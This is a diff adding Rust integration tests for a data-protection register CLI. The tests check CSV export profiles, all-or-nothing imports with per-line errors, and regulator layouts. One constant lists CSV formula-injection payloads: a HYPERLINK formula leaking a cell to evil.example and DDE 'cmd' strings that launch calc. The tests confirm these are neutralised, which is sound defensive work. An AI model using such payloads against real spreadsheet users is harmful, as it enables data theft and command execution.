@@ -1,0 +1,504 @@
+//! CSV for auditors and back: export profiles, formula neutralisation, the
+//! authorities' layouts, and `dpo import` (all or nothing, errors by line),
+//! run through the real binary on temporary registers.
+
+use std::fs;
+use std::path::Path;
+use std::process::{Command, Output};
+
+use dpo_workbench::exchange::tables::Table;
+
+fn dpo(dir: &Path, args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_dpo"))
+        .args(args)
+        .current_dir(dir)
+        .env_remove("DPO_REGISTER")
+        .output()
+        .expect("run dpo")
+}
+
+fn stderr(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stderr).into_owned()
+}
+
+fn ok(o: &Output) {
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(o));
+}
+
+fn demo(dir: &Path) {
+    ok(&dpo(dir, &["init", "demo.dpo", "--demo"]));
+}
+
+fn empty(dir: &Path, name: &str) {
+    ok(&dpo(dir, &["init", name, "--name", "Empty AS"]));
+}
+
+fn hash(path: &Path) -> Vec<u8> {
+    fs::read(path).unwrap()
+}
+
+/// Files of a folder by name with their bytes.
+fn folder(dir: &Path) -> Vec<(String, Vec<u8>)> {
+    let mut files: Vec<(String, Vec<u8>)> = fs::read_dir(dir)
+        .unwrap()
+        .map(|e| e.unwrap())
+        .map(|e| {
+            (
+                e.file_name().to_string_lossy().into_owned(),
+                fs::read(e.path()).unwrap(),
+            )
+        })
+        .collect();
+    files.sort();
+    files
+}
+
+#[test]
+fn export_import_export_gives_identical_files_in_both_profiles() {
+    let dir = tempfile::tempdir().unwrap();
+    demo(dir.path());
+    for profile in ["rfc4180", "excel"] {
+        let first = format!("first-{profile}");
+        let second = format!("second-{profile}");
+        let target = format!("copy-{profile}.dpo");
+        ok(&dpo(
+            dir.path(),
+            &[
+                "export",
+                "demo.dpo",
+                "--all",
+                "-o",
+                &first,
+                "--profile",
+                profile,
+            ],
+        ));
+        empty(dir.path(), &target);
+        ok(&dpo(dir.path(), &["import", &target, "--all", &first]));
+        ok(&dpo(
+            dir.path(),
+            &[
+                "export",
+                &target,
+                "--all",
+                "-o",
+                &second,
+                "--profile",
+                profile,
+            ],
+        ));
+        let a = folder(&dir.path().join(&first));
+        let b = folder(&dir.path().join(&second));
+        assert_eq!(a.len(), Table::ALL.len());
+        for ((name_a, bytes_a), (name_b, bytes_b)) in a.iter().zip(&b) {
+            assert_eq!(name_a, name_b);
+            assert!(
+                bytes_a == bytes_b,
+                "{profile}: {name_a} differs after the round trip:\n{}\n---\n{}",
+                String::from_utf8_lossy(bytes_a),
+                String::from_utf8_lossy(bytes_b)
+            );
+        }
+        // Importing the same folder again changes nothing.
+        ok(&dpo(dir.path(), &["import", &target, "--all", &first]));
+        let third = format!("third-{profile}");
+        ok(&dpo(
+            dir.path(),
+            &[
+                "export",
+                &target,
+                "--all",
+                "-o",
+                &third,
+                "--profile",
+                profile,
+            ],
+        ));
+        assert_eq!(folder(&dir.path().join(&third)), a);
+    }
+}
+
+#[test]
+fn excel_profile_has_a_bom_semicolons_and_crlf() {
+    let dir = tempfile::tempdir().unwrap();
+    demo(dir.path());
+    ok(&dpo(
+        dir.path(),
+        &[
+            "export",
+            "demo.dpo",
+            "--table",
+            "processors",
+            "-o",
+            "p.csv",
+            "--profile",
+            "excel",
+        ],
+    ));
+    let bytes = hash(&dir.path().join("p.csv"));
+    assert!(bytes.starts_with(b"\xEF\xBB\xBFid;name;org_number;country;"));
+    let text = String::from_utf8(bytes).unwrap();
+    assert!(text.contains("\r\n"));
+    // A line break inside an address stays inside its quoted cell.
+    assert!(
+        text.contains("\"Schweigaards gate 39\n0191 Oslo\""),
+        "{text}"
+    );
+    // The plain profile has neither BOM nor semicolons as separators.
+    ok(&dpo(
+        dir.path(),
+        &["export", "demo.dpo", "--table", "processors", "-o", "q.csv"],
+    ));
+    assert!(hash(&dir.path().join("q.csv")).starts_with(b"id,name,org_number,country,"));
+    // --delimiter overrides the profile's.
+    ok(&dpo(
+        dir.path(),
+        &[
+            "export",
+            "demo.dpo",
+            "--table",
+            "processors",
+            "-o",
+            "t.csv",
+            "--delimiter",
+            "tab",
+        ],
+    ));
+    assert!(hash(&dir.path().join("t.csv")).starts_with(b"id\tname\torg_number\t"));
+}
+
+// A leading tab or carriage return is neutralised too (unit tests in
+// profile.rs), but the forms trim the whitespace around a value, so such a
+// payload does not survive a save; these five keep their bytes.
+const PAYLOADS: [&str; 5] = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "'=already quoted",
+];
+
+#[test]
+fn formula_payloads_are_neutralised_and_come_back_unchanged() {
+    let dir = tempfile::tempdir().unwrap();
+    empty(dir.path(), "a.dpo");
+    // A processors file with the payloads in two free-text cells, escaped as
+    // the export escapes them: the import must undo exactly that.
+    let mut escaped = String::from(
+        "name,org_number,country,address,contact_email,service,role,parent_id,status,notes\r\n",
+    );
+    for (i, p) in PAYLOADS.iter().enumerate() {
+        let neutral = dpo_workbench::exchange::profile::neutralise(p).into_owned();
+        let quoted = format!("\"{}\"", neutral.replace('"', "\"\""));
+        escaped.push_str(&format!(
+            "Vendor {i},,NO,,,{quoted},processor,,active,{quoted}\r\n"
+        ));
+    }
+    fs::write(dir.path().join("in.csv"), escaped).unwrap();
+    ok(&dpo(
+        dir.path(),
+        &["import", "a.dpo", "--table", "processors", "in.csv"],
+    ));
+    for profile in ["rfc4180", "excel"] {
+        let out = format!("out-{profile}.csv");
+        ok(&dpo(
+            dir.path(),
+            &[
+                "export",
+                "a.dpo",
+                "--table",
+                "processors",
+                "-o",
+                &out,
+                "--profile",
+                profile,
+            ],
+        ));
+        let text = String::from_utf8(hash(&dir.path().join(&out))).unwrap();
+        let mut reader = csv::ReaderBuilder::new()
+            .delimiter(if profile == "excel" { b';' } else { b',' })
+            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        let services: Vec<String> = reader
+            .records()
+            .map(|r| r.unwrap().get(6).unwrap().to_string())
+            .collect();
+        for (cell, payload) in services.iter().zip(PAYLOADS) {
+            // No cell a spreadsheet would evaluate: each starts with a quote.
+            assert!(
+                cell.starts_with('\''),
+                "{profile}: {cell:?} is not neutralised"
+            );
+            assert_eq!(dpo_workbench::exchange::profile::restore(cell), payload);
+        }
+    }
+    // Round trip of the payloads through a second register is lossless.
+    ok(&dpo(
+        dir.path(),
+        &["export", "a.dpo", "--table", "processors", "-o", "rt.csv"],
+    ));
+    empty(dir.path(), "b.dpo");
+    ok(&dpo(
+        dir.path(),
+        &["import", "b.dpo", "--table", "processors", "rt.csv"],
+    ));
+    ok(&dpo(
+        dir.path(),
+        &["export", "b.dpo", "--table", "processors", "-o", "rt2.csv"],
+    ));
+    assert_eq!(
+        hash(&dir.path().join("rt.csv")),
+        hash(&dir.path().join("rt2.csv"))
+    );
+}
+
+#[test]
+fn a_bad_row_changes_nothing_and_is_named_by_line_and_column() {
+    let dir = tempfile::tempdir().unwrap();
+    demo(dir.path());
+    let before = hash(&dir.path().join("demo.dpo"));
+    // Line 2 holds a two-line quoted address, so the bad row starts on line 4.
+    let csv =
+        "name,org_number,country,address,contact_email,service,role,parent_id,status,notes\r\n\
+               Good Vendor AS,,NO,\"Storgata 1\r\n0150 Oslo\",,,processor,,active,\r\n\
+               Bad Vendor,,XX,,,,processor,,active,\r\n";
+    fs::write(dir.path().join("p.csv"), csv).unwrap();
+    let o = dpo(
+        dir.path(),
+        &["import", "demo.dpo", "--table", "processors", "p.csv"],
+    );
+    assert_eq!(o.status.code(), Some(2));
+    let err = stderr(&o);
+    assert!(
+        err.contains("p.csv line 4, column country ('XX'): 'XX' is not an ISO 3166-1"),
+        "{err}"
+    );
+    assert!(err.contains("nothing was imported: 1 error"), "{err}");
+    assert_eq!(
+        hash(&dir.path().join("demo.dpo")),
+        before,
+        "the register changed"
+    );
+    // Without the bad row the good one comes in.
+    fs::write(
+        dir.path().join("p.csv"),
+        &csv[..csv.find("Bad Vendor").unwrap()],
+    )
+    .unwrap();
+    let o = dpo(
+        dir.path(),
+        &["import", "demo.dpo", "--table", "processors", "p.csv"],
+    );
+    ok(&o);
+    assert!(
+        stderr(&o).contains("inserted 1, updated 0"),
+        "{}",
+        stderr(&o)
+    );
+}
+
+#[test]
+fn at_most_twenty_errors_are_listed_with_a_count_of_the_rest() {
+    let dir = tempfile::tempdir().unwrap();
+    empty(dir.path(), "a.dpo");
+    let mut csv = String::from(
+        "name,org_number,country,address,contact_email,service,role,parent_id,status,notes\n",
+    );
+    for i in 0..25 {
+        csv.push_str(&format!("V{i},,NO,,,,wizard,,active,\n"));
+    }
+    fs::write(dir.path().join("p.csv"), csv).unwrap();
+    let o = dpo(
+        dir.path(),
+        &["import", "a.dpo", "--table", "processors", "p.csv"],
+    );
+    assert_eq!(o.status.code(), Some(2));
+    let err = stderr(&o);
+    assert_eq!(err.matches("column role").count(), 20, "{err}");
+    assert!(err.contains("p.csv line 21, column role"), "{err}");
+    assert!(err.contains("… and 5 more errors"), "{err}");
+}
+
+#[test]
+fn dry_run_reports_and_writes_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    demo(dir.path());
+    ok(&dpo(
+        dir.path(),
+        &["export", "demo.dpo", "--all", "-o", "out"],
+    ));
+    empty(dir.path(), "a.dpo");
+    let before = hash(&dir.path().join("a.dpo"));
+    let o = dpo(
+        dir.path(),
+        &["import", "a.dpo", "--all", "out", "--dry-run"],
+    );
+    ok(&o);
+    let err = stderr(&o);
+    assert!(
+        err.contains("processors.csv: would insert 19, would update 0"),
+        "{err}"
+    );
+    assert!(err.contains("Dry run: nothing was written."), "{err}");
+    assert_eq!(hash(&dir.path().join("a.dpo")), before);
+}
+
+#[test]
+fn header_problems_are_reported_before_any_row() {
+    let dir = tempfile::tempdir().unwrap();
+    empty(dir.path(), "a.dpo");
+    fs::write(dir.path().join("p.csv"), "name;country;colour\nX;NO;blue\n").unwrap();
+    let o = dpo(
+        dir.path(),
+        &["import", "a.dpo", "--table", "processors", "p.csv"],
+    );
+    assert_eq!(o.status.code(), Some(2));
+    let err = stderr(&o);
+    assert!(
+        err.contains("line 1, column colour: not a column of processors.csv"),
+        "{err}"
+    );
+    assert!(
+        err.contains("column role: missing from the header"),
+        "{err}"
+    );
+}
+
+#[test]
+fn a_rows_cells_must_match_the_header_and_be_utf8() {
+    let dir = tempfile::tempdir().unwrap();
+    empty(dir.path(), "a.dpo");
+    let header =
+        "name,org_number,country,address,contact_email,service,role,parent_id,status,notes\n";
+    fs::write(dir.path().join("short.csv"), format!("{header}X,,NO\n")).unwrap();
+    let o = dpo(
+        dir.path(),
+        &["import", "a.dpo", "--table", "processors", "short.csv"],
+    );
+    assert!(
+        stderr(&o).contains("line 2: 3 cells where the header has 10"),
+        "{}",
+        stderr(&o)
+    );
+    let mut latin1 = header.as_bytes().to_vec();
+    latin1.extend_from_slice(b"Bj\xf8rn AS,,NO,,,,processor,,active,\n");
+    fs::write(dir.path().join("latin1.csv"), latin1).unwrap();
+    let o = dpo(
+        dir.path(),
+        &["import", "a.dpo", "--table", "processors", "latin1.csv"],
+    );
+    assert_eq!(o.status.code(), Some(2));
+    assert!(stderr(&o).contains("not UTF-8 text"), "{}", stderr(&o));
+}
+
+#[test]
+fn references_to_missing_records_are_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    empty(dir.path(), "a.dpo");
+    fs::write(
+        dir.path().join("t.csv"),
+        "id,processor_id,country,tool,dpf_certified,regular,tia_reference,tia_date,notes\n,42,US,dpf,yes,yes,,,\n",
+    )
+    .unwrap();
+    let o = dpo(
+        dir.path(),
+        &["import", "a.dpo", "--table", "transfers", "t.csv"],
+    );
+    assert_eq!(o.status.code(), Some(2));
+    assert!(
+        stderr(&o).contains("line 2, column processor_id ('42'): no processor with id 42"),
+        "{}",
+        stderr(&o)
+    );
+}
+
+#[test]
+fn authority_layouts_have_the_templates_headings() {
+    let dir = tempfile::tempdir().unwrap();
+    demo(dir.path());
+    ok(&dpo(
+        dir.path(),
+        &[
+            "export",
+            "demo.dpo",
+            "--table",
+            "activities",
+            "-o",
+            "ico.csv",
+            "--profile",
+            "ico",
+        ],
+    ));
+    let ico = String::from_utf8(hash(&dir.path().join("ico.csv"))).unwrap();
+    assert!(ico.starts_with("\u{feff}Business function,Purpose of processing,Name and contact details of joint controller (if applicable),Categories of individuals,"));
+    let mut headings = csv::Reader::from_reader(ico.trim_start_matches('\u{feff}').as_bytes());
+    assert_eq!(headings.headers().unwrap().len(), 30);
+    ok(&dpo(
+        dir.path(),
+        &[
+            "export",
+            "demo.dpo",
+            "--table",
+            "activities",
+            "-o",
+            "dt.csv",
+            "--profile",
+            "datatilsynet",
+        ],
+    ));
+    let dt = String::from_utf8(hash(&dir.path().join("dt.csv"))).unwrap();
+    assert!(dt.starts_with("\u{feff}Behandlingsaktivitet;Behandlingsansvarlig og personvernombud;Formålene med behandlingen;"));
+    assert!(dt.contains("Fjordvakt Telemetri AS (org.nr."), "{dt}");
+    // The layouts are for activities only, and are not read back.
+    let o = dpo(
+        dir.path(),
+        &[
+            "export",
+            "demo.dpo",
+            "--table",
+            "processors",
+            "--profile",
+            "ico",
+        ],
+    );
+    assert_eq!(o.status.code(), Some(2));
+    assert!(stderr(&o).contains("use it with --table activities"));
+    let o = dpo(
+        dir.path(),
+        &[
+            "export",
+            "demo.dpo",
+            "--all",
+            "-o",
+            "x",
+            "--profile",
+            "datatilsynet",
+        ],
+    );
+    assert_eq!(o.status.code(), Some(2));
+    empty(dir.path(), "b.dpo");
+    let o = dpo(
+        dir.path(),
+        &["import", "b.dpo", "--table", "activities", "dt.csv"],
+    );
+    assert_eq!(o.status.code(), Some(2));
+    assert!(
+        stderr(&o).contains("not a column of activities.csv"),
+        "{}",
+        stderr(&o)
+    );
+}
+
+#[test]
+fn derived_columns_are_declared_columns() {
+    // A misspelt derived name would make the import demand a computed column.
+    for table in Table::ALL {
+        for d in table.derived_columns() {
+            assert!(
+                table.column_docs().iter().any(|(n, _)| n == d),
+                "{}: derived column {d} is not declared",
+                table.name()
+            );
+        }
+        assert!(!table.required_columns().contains(&"id"));
+    }
+}
